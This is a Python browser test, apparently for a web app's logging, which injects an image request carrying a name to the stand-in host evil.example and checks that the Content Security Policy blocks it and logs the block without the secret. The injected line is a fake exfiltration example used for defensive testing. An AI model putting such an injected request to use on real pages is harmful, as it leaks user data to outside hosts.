"""What the content policy stops is told to the operator."""

from __future__ import annotations

import logging
import time

import pytest
from playwright.sync_api import BrowserContext
from tests.browser.conftest import PATIENCE, Site

pytestmark = pytest.mark.browser


def test_what_a_page_may_not_fetch_stands_in_the_log(
    context: BrowserContext, site: Site, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, "backbeat.http")
    page = context.new_page()
    page.goto(f"{site.address}/terms")

    page.evaluate("new Image().src = 'https://evil.example/secret.png?who=mina'")

    line = "csp img-src stopped=https://evil.example page=/terms"
    until = time.monotonic() + PATIENCE / 1000
    while line not in caplog.text and time.monotonic() < until:
        page.wait_for_timeout(100)
    assert line in caplog.text
    assert "secret" not in caplog.text
